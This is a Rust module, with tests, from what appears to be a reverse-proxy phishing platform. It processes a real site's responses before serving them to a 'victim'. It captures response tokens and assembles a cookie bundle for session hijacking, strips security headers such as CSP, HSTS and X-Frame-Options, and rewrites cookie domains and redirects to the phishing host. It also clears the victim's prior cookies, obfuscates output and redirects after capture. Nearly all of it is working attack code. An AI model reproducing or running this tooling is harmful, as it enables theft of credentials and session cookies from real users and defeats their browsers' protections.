//! Response Pipeline (C8, §4.8). Turns the upstream response into the
//! bytes actually served to the victim: captures first, then every
//! rewrite, in the order the wire content must end up correct.

use std::collections::HashMap;

use uuid::Uuid;

use crate::config::proxy_config::{CaptureSource, HostConfig};
use crate::models::campaign::{Campaign, Template};
use crate::models::session::ProxySession;
use crate::proxy::campaign_flow::{self, PageType};
use crate::proxy::capture::{self, CaptureEvent, CaptureResult, CookieAttrs};
use crate::proxy::compression::{self, Encoding};
use crate::proxy::request_pipeline::host_map_for_session;
use crate::proxy::rewrite_engine;
use crate::proxy::url_rewrite;
use crate::storage::catalog::Obfuscator;

const SECURITY_HEADERS_STRIPPED: &[&str] = &[
    "content-security-policy",
    "content-security-policy-report-only",
    "strict-transport-security",
    "x-xss-protection",
    "x-content-type-options",
    "x-frame-options",
];

pub struct PreparedResponse {
    pub status: u16,
    pub headers: HashMap<String, String>,
    pub body: Vec<u8>,
}

pub struct ResponsePipelineOutcome {
    pub prepared: PreparedResponse,
    pub captures: Vec<CaptureResult>,
}

/// Runs §4.8 steps 1-10 plus the campaign-flow redirect override (§4.10)
/// against one upstream response.
///
/// `request_side_completed` reports whether a required capture already
/// completed on the request side of this same exchange (§4.7's captures run
/// before this is ever called); it is OR-ed with whatever completes here so
/// a redirect is staged exactly once, regardless of which side's capture
/// tipped the session over.
#[allow(clippy::too_many_arguments)]
pub async fn run(
    session: &ProxySession,
    host_cfg: &HostConfig,
    campaign: Option<&Campaign>,
    template: Option<&Template>,
    campaign_id: Uuid,
    campaign_recipient_id: Uuid,
    current_page: PageType,
    current_phishing_host: &str,
    method: &str,
    path: &str,
    status: u16,
    mut headers: HashMap<String, String>,
    body: Vec<u8>,
    obfuscator: Option<&dyn Obfuscator>,
    session_cookie: Option<(&str, String)>,
    request_side_completed: bool,
    request_cookie_header: Option<&str>,
) -> ResponsePipelineOutcome {
    let host_map = host_map_for_session(session);

    // Step 1: decompress, or assume already-decoded and strip the header.
    let encoding = headers
        .get("content-encoding")
        .map(|v| Encoding::from_header(v))
        .unwrap_or(Encoding::Identity);
    let mut decoded = match compression::decompress(&body, encoding) {
        Ok(bytes) => bytes,
        Err(()) => {
            headers.remove("content-encoding");
            body
        }
    };
    let encoding = if headers.contains_key("content-encoding") { encoding } else { Encoding::Identity };

    // Step 2: response-side captures.
    let captures = run_captures(session, host_cfg, method, path, &headers, &decoded).await;
    let completed = request_side_completed || captures.iter().any(|c| c.completes_session);

    // Step 3: session-cookie issuance. A freshly created session first
    // clears every cookie the victim's browser already holds for this
    // phishing host (expired Set-Cookie per observed inbound cookie), then
    // sets the engine's own session cookie scoped to the effective
    // top-level domain (§4.8 step 2, §6).
    if let Some((name, value)) = &session_cookie {
        for cookie_name in inbound_cookie_names(request_cookie_header) {
            append_set_cookie(
                &mut headers,
                &format!("{cookie_name}=; Domain={current_phishing_host}; Path=/; Expires=Thu, 01 Jan 1970 00:00:00 GMT; Max-Age=0"),
            );
        }
        let domain = crate::util::effective_top_level_domain(current_phishing_host);
        append_set_cookie(
            &mut headers,
            &format!("{name}={value}; Domain={domain}; Path=/; Secure; HttpOnly; SameSite=Lax; Max-Age=3600"),
        );
    }

    // Step 4: security-header stripping, ACAO/Location host rewrite.
    strip_security_headers(&mut headers);
    rewrite_location_and_acao(&mut headers, &host_map);

    // Step 5: Set-Cookie domain/SameSite/Secure normalization.
    normalize_set_cookie(&mut headers, &host_map);

    // Step 6: re-phish host references in the body.
    let mut body_text = String::from_utf8_lossy(&decoded).into_owned();
    body_text = url_rewrite::re_phish(&body_text, &host_map);

    // Step 7: custom body replacements (regex + DOM).
    body_text = rewrite_engine::apply_regex_body_rewrites(&body_text, &host_cfg.rules.rewrite, CaptureSource::ResponseBody);
    decoded = body_text.into_bytes();
    decoded = rewrite_engine::apply_dom_rewrites(&decoded, &host_cfg.rules.rewrite, CaptureSource::ResponseBody);

    // Step 8: obfuscation hook, which suppresses recompression.
    let (final_body, recompress) = match (campaign, template, obfuscator) {
        (Some(campaign), Some(template), Some(ob)) if campaign.obfuscate => (ob.obfuscate(&decoded, campaign, template), false),
        _ => (decoded, true),
    };

    // Step 9: recompress under the original encoding; force no-store caching
    // for the content types the victim must never cache stale phished state.
    // Obfuscated output is raw, never recompressed or labeled as encoded.
    let encoding = if recompress { encoding } else { Encoding::Identity };
    let final_body = if recompress { compression::compress(&final_body, encoding) } else { final_body };
    if let Some(value) = encoding.header_value() {
        headers.insert("content-encoding".to_string(), value.to_string());
    } else {
        headers.remove("content-encoding");
    }
    if is_rewritable_content_type(headers.get("content-type").map(String::as_str)) {
        headers.insert("cache-control".to_string(), "no-cache, no-store".to_string());
    }
    headers.insert("content-length".to_string(), final_body.len().to_string());

    // Step 10: custom response-header replacements, applied last; never
    // renames a header (rewrite_engine guarantees this).
    rewrite_engine::apply_regex_header_rewrites(&mut headers, &host_cfg.rules.rewrite, CaptureSource::ResponseHeader);

    // Campaign-flow progression (§4.10): stage the next page the moment a
    // completion edge fires, then immediately consume whatever is staged
    // (this turn's or an earlier turn's) and override the response with a
    // redirect, preserving every Set-Cookie collected so far.
    let mut final_status = status;
    let mut final_body = final_body;
    if completed {
        if let Some(template) = template {
            if let Some(staged) = campaign_flow::stage_value_for(current_page, template) {
                session.stage_next_page(staged);
            }
        }
    }
    if let (Some(template), Some(staged)) = (template, session.take_next_page()) {
        if let Some(location) =
            campaign_flow::resolve_staged_redirect(&staged, template, campaign_id, campaign_recipient_id, current_phishing_host)
        {
            final_status = 302;
            headers.insert("location".to_string(), location);
            headers.remove("content-encoding");
            headers.insert("content-length".to_string(), "0".to_string());
            final_body = Vec::new();
        }
    }

    ResponsePipelineOutcome {
        prepared: PreparedResponse { status: final_status, headers, body: final_body },
        captures,
    }
}

async fn run_captures(
    session: &ProxySession,
    host_cfg: &HostConfig,
    method: &str,
    path: &str,
    headers: &HashMap<String, String>,
    body: &[u8],
) -> Vec<CaptureResult> {
    let upstream_host = session.target_domain.as_str();
    let content_type = headers.get("content-type").map(String::as_str);

    let mut results = capture::evaluate(
        session,
        &host_cfg.rules.capture,
        &CaptureEvent {
            method,
            path,
            source: CaptureSource::ResponseBody,
            body,
            content_type,
            headers,
            cookies: &[],
            upstream_host,
        },
    )
    .await;

    results.extend(
        capture::evaluate(
            session,
            &host_cfg.rules.capture,
            &CaptureEvent {
                method,
                path,
                source: CaptureSource::ResponseHeader,
                body: &[],
                content_type,
                headers,
                cookies: &[],
                upstream_host,
            },
        )
        .await,
    );

    let cookies = parse_set_cookie_header(headers.get("set-cookie").map(String::as_str).unwrap_or(""));
    if !cookies.is_empty() {
        results.extend(
            capture::evaluate(
                session,
                &host_cfg.rules.capture,
                &CaptureEvent {
                    method,
                    path,
                    source: CaptureSource::Cookie,
                    body: &[],
                    content_type,
                    headers,
                    cookies: &cookies,
                    upstream_host,
                },
            )
            .await,
        );
    }

    if let Some(bundle) = capture::try_build_cookie_bundle(session, &host_cfg.rules.capture, upstream_host) {
        results.push(CaptureResult {
            name: "cookie_bundle".to_string(),
            value: bundle,
            is_cookie: true,
            completes_session: false,
        });
    }

    results
}

/// One `Set-Cookie` header can legally repeat; this module's header map
/// follows the engine-wide convention of newline-joining repeated header
/// occurrences into a single string entry (see the HTTP entry point).
fn parse_set_cookie_header(value: &str) -> Vec<(String, String, CookieAttrs)> {
    value
        .split('\n')
        .filter(|line| !line.is_empty())
        .filter_map(|line| {
            let first = line.split(';').next()?;
            let (name, val) = first.split_once('=')?;
            Some((name.trim().to_string(), val.trim().to_string(), cookie_attrs(line)))
        })
        .collect()
}

fn cookie_attrs(line: &str) -> CookieAttrs {
    let mut attrs = CookieAttrs::default();
    for part in line.split(';').skip(1) {
        let part = part.trim();
        let (key, value) = part.split_once('=').unwrap_or((part, ""));
        match key.to_lowercase().as_str() {
            "domain" => attrs.domain = Some(value.to_string()),
            "path" => attrs.path = Some(value.to_string()),
            "secure" => attrs.secure = true,
            "httponly" => attrs.http_only = true,
            "samesite" => attrs.same_site = Some(value.to_string()),
            "expires" => attrs.expires = Some(value.to_string()),
            "max-age" => attrs.max_age = Some(value.to_string()),
            _ => {}
        }
    }
    attrs
}

/// Names of every cookie the victim's browser already sent, in order, so a
/// freshly created session can clear each of them (§4.8 step 2).
fn inbound_cookie_names(request_cookie_header: Option<&str>) -> Vec<String> {
    let Some(raw) = request_cookie_header else { return Vec::new() };
    raw.split(';')
        .filter_map(|pair| pair.split_once('=').map(|(name, _)| name.trim().to_string()))
        .filter(|name| !name.is_empty())
        .collect()
}

fn append_set_cookie(headers: &mut HashMap<String, String>, new_cookie: &str) {
    match headers.get_mut("set-cookie") {
        Some(existing) => {
            existing.push('\n');
            existing.push_str(new_cookie);
        }
        None => {
            headers.insert("set-cookie".to_string(), new_cookie.to_string());
        }
    }
}

fn strip_security_headers(headers: &mut HashMap<String, String>) {
    for name in SECURITY_HEADERS_STRIPPED {
        headers.remove(*name);
    }
}

fn rewrite_location_and_acao(headers: &mut HashMap<String, String>, host_map: &HashMap<String, String>) {
    if let Some(location) = headers.get("location").cloned() {
        headers.insert("location".to_string(), rewrite_url_host(&location, host_map));
    }
    if let Some(acao) = headers.get("access-control-allow-origin").cloned() {
        if acao != "*" {
            headers.insert("access-control-allow-origin".to_string(), rewrite_url_host(&acao, host_map));
            headers.insert("access-control-allow-credentials".to_string(), "true".to_string());
        }
    }
}

/// Rewrites just the host component of a `scheme://host[:port][/path]`
/// value (or a bare host) via [`url_rewrite::replace_host_with_phished`],
/// leaving everything else untouched.
fn rewrite_url_host(value: &str, host_map: &HashMap<String, String>) -> String {
    let (prefix, rest) = match value.split_once("://") {
        Some((scheme, rest)) => (format!("{scheme}://"), rest),
        None => (String::new(), value),
    };
    let (host, suffix) = match rest.find(['/', '?', '#']) {
        Some(idx) => (&rest[..idx], &rest[idx..]),
        None => (rest, ""),
    };
    match url_rewrite::replace_host_with_phished(host, host_map) {
        Some(phished) => format!("{prefix}{phished}{suffix}"),
        None => value.to_string(),
    }
}

/// Rewrites every `Set-Cookie` occurrence's `Domain` attribute to the
/// phishing host and forces `SameSite=None; Secure` so the victim's browser
/// actually stores it cross-site. Malformed `Expires` values are passed
/// through verbatim rather than dropped (§9 tolerant-parsing design note).
fn normalize_set_cookie(headers: &mut HashMap<String, String>, host_map: &HashMap<String, String>) {
    let Some(raw) = headers.get("set-cookie").cloned() else { return };
    let rewritten: Vec<String> = raw.split('\n').filter(|l| !l.is_empty()).map(|line| normalize_one_cookie(line, host_map)).collect();
    headers.insert("set-cookie".to_string(), rewritten.join("\n"));
}

fn normalize_one_cookie(line: &str, host_map: &HashMap<String, String>) -> String {
    let mut parts: Vec<String> = line.split(';').map(|p| p.trim().to_string()).collect();
    let mut has_samesite = false;
    let mut has_secure = false;

    for part in parts.iter_mut() {
        let lower = part.to_lowercase();
        if let Some(domain) = lower.strip_prefix("domain=") {
            if let Some(phished) = url_rewrite::replace_host_with_phished(domain.trim_start_matches('.'), host_map) {
                *part = format!("Domain={phished}");
            }
        } else if lower.starts_with("samesite=") {
            *part = "SameSite=None".to_string();
            has_samesite = true;
        } else if lower == "secure" {
            has_secure = true;
        } else if lower.starts_with("expires=") {
            // Tolerant: keep the upstream value verbatim even if it fails to
            // parse under any known HTTP-date format; dropping it would
            // silently turn a persistent cookie into a session cookie.
        }
    }

    if !has_samesite {
        parts.push("SameSite=None".to_string());
    }
    if !has_secure {
        parts.push("Secure".to_string());
    }

    parts.join("; ")
}

fn is_rewritable_content_type(content_type: Option<&str>) -> bool {
    match content_type {
        Some(ct) => {
            let ct = ct.to_lowercase();
            ct.contains("text/html") || ct.contains("javascript") || ct.contains("application/json")
        }
        None => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::proxy_config::ProxyConfig;
    use crate::models::campaign::PageRef;

    fn config_and_session() -> (ProxyConfig, ProxySession) {
        let yaml = r#"
version: "0.0"
hosts:
  "upstream.example.com":
    to: "phish.test"
"#;
        let cfg = ProxyConfig::compile(yaml).unwrap();
        let session = ProxySession::new(
            Uuid::new_v4(),
            Uuid::new_v4(),
            Uuid::new_v4(),
            "phish.test".to_string(),
            "upstream.example.com".to_string(),
            Some("UA/1.0".to_string()),
            &cfg,
        );
        (cfg, session)
    }

    fn simple_template() -> Template {
        Template {
            url_identifier: "u".to_string(),
            state_identifier: "s".to_string(),
            evasion_page: None,
            before_landing_page: None,
            landing_page: PageRef { domain: "phish.test".to_string(), html: String::new() },
            after_landing_page: None,
            after_landing_redirect_url: None,
        }
    }

    fn template_with_before_page() -> Template {
        let mut t = simple_template();
        t.before_landing_page = Some(PageRef { domain: "phish.test".to_string(), html: String::new() });
        t
    }

    #[tokio::test]
    async fn rewrites_location_and_set_cookie_domain() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();

        let mut headers = HashMap::new();
        headers.insert("location".to_string(), "https://upstream.example.com/next".to_string());
        headers.insert("set-cookie".to_string(), "sid=abc; Domain=upstream.example.com; Path=/".to_string());
        headers.insert("content-type".to_string(), "text/html".to_string());

        let outcome = run(
            &session,
            host_cfg,
            None,
            None,
            Uuid::new_v4(),
            Uuid::new_v4(),
            PageType::Landing,
            "phish.test",
            "GET",
            "/",
            200,
            headers,
            b"<html><body>welcome to upstream.example.com</body></html>".to_vec(),
            None,
            None,
            false,
            None,
        )
        .await;

        assert_eq!(outcome.prepared.headers.get("location"), Some(&"https://phish.test/next".to_string()));
        let set_cookie = outcome.prepared.headers.get("set-cookie").unwrap();
        assert!(set_cookie.contains("Domain=phish.test"));
        assert!(set_cookie.contains("SameSite=None"));
        assert!(set_cookie.contains("Secure"));
        let body = String::from_utf8(outcome.prepared.body.clone()).unwrap();
        assert!(body.contains("phish.test"));
        assert!(!body.contains("upstream.example.com"));
    }

    #[tokio::test]
    async fn strips_security_headers() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();
        let mut headers = HashMap::new();
        headers.insert("content-security-policy".to_string(), "default-src 'self'".to_string());
        headers.insert("x-frame-options".to_string(), "DENY".to_string());

        let outcome = run(
            &session, host_cfg, None, None, Uuid::new_v4(), Uuid::new_v4(), PageType::Landing, "phish.test",
            "GET", "/", 200, headers, Vec::new(), None, None, false, None,
        )
        .await;

        assert!(outcome.prepared.headers.get("content-security-policy").is_none());
        assert!(outcome.prepared.headers.get("x-frame-options").is_none());
    }

    #[tokio::test]
    async fn completed_capture_stages_and_resolves_redirect() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();
        let template = template_with_before_page();
        let campaign_id = Uuid::new_v4();
        let recipient_id = Uuid::new_v4();

        let outcome = run(
            &session,
            host_cfg,
            None,
            Some(&template),
            campaign_id,
            recipient_id,
            PageType::Evasion,
            "phish.test",
            "POST",
            "/login",
            200,
            HashMap::new(),
            b"ok".to_vec(),
            None,
            None,
            true,
            None,
        )
        .await;

        assert_eq!(outcome.prepared.status, 302);
        let location = outcome.prepared.headers.get("location").unwrap();
        assert!(location.starts_with("https://phish.test/"));
    }

    #[tokio::test]
    async fn completion_at_final_page_with_no_after_page_suppresses_redirect() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();
        let template = simple_template();

        let outcome = run(
            &session,
            host_cfg,
            None,
            Some(&template),
            Uuid::new_v4(),
            Uuid::new_v4(),
            PageType::Landing,
            "phish.test",
            "POST",
            "/login",
            200,
            HashMap::new(),
            b"ok".to_vec(),
            None,
            None,
            true,
            None,
        )
        .await;

        assert_eq!(outcome.prepared.status, 200, "'done' with no redirect url must not produce a 302");
        assert!(outcome.prepared.headers.get("location").is_none());
    }

    #[tokio::test]
    async fn no_completion_leaves_response_untouched_by_campaign_flow() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();
        let template = simple_template();

        let outcome = run(
            &session,
            host_cfg,
            None,
            Some(&template),
            Uuid::new_v4(),
            Uuid::new_v4(),
            PageType::Landing,
            "phish.test",
            "GET",
            "/",
            200,
            HashMap::new(),
            b"hello".to_vec(),
            None,
            None,
            false,
            None,
        )
        .await;

        assert_eq!(outcome.prepared.status, 200);
        assert!(outcome.prepared.headers.get("location").is_none());
    }

    #[test]
    fn malformed_expires_is_preserved_not_dropped() {
        let mut host_map = HashMap::new();
        host_map.insert("upstream.example.com".to_string(), "phish.test".to_string());
        let normalized = normalize_one_cookie("sid=abc; Expires=not-a-real-date; Domain=upstream.example.com", &host_map);
        assert!(normalized.contains("Expires=not-a-real-date"));
    }

    #[tokio::test]
    async fn fresh_session_issues_scoped_cookie_and_clears_prior_ones() {
        let (cfg, session) = config_and_session();
        let host_cfg = cfg.host("upstream.example.com").unwrap();

        let outcome = run(
            &session,
            host_cfg,
            None,
            None,
            Uuid::new_v4(),
            Uuid::new_v4(),
            PageType::Landing,
            "phish.test",
            "GET",
            "/",
            200,
            HashMap::new(),
            Vec::new(),
            None,
            Some(("ps", session.id.to_string())),
            false,
            Some("leftover=1; other=2"),
        )
        .await;

        let set_cookie = outcome.prepared.headers.get("set-cookie").unwrap();
        let lines: Vec<&str> = set_cookie.split('\n').collect();

        assert!(lines.iter().any(|l| l.starts_with("leftover=;") && l.contains("Max-Age=0")));
        assert!(lines.iter().any(|l| l.starts_with("other=;") && l.contains("Max-Age=0")));

        let session_line = lines.iter().find(|l| l.starts_with("ps=")).expect("session cookie present");
        assert!(session_line.contains("Domain=.phish.test"));
        assert!(session_line.contains("SameSite=Lax"));
        assert!(session_line.contains("Max-Age=3600"));
        assert!(session_line.contains("Secure"));
        assert!(session_line.contains("HttpOnly"));
    }
}
